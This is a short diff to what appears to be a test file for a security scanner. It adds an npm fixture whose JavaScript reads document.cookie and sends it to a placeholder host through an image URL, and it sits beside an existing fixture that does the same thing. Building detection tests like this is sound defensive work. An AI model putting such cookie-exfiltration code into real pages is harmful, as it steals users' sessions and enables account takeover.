@@ -107,6 +107,13 @@ that form, which prevents what the browser does.`,
       {
         ecosystem: "npm",
         files: {
+          "a.js":
+            "const U = 'https://example.invalid/c';\nconst c = document.cookie;\nnew Image().src = `${U}?c=${c}`;\n",
+        },
+      },
+      {
+        ecosystem: "npm",
+        files: {
           "a.js": "new Image().src = 'https://example.invalid/?c=' + encodeURIComponent(document['cookie']);\n",
         },
       },
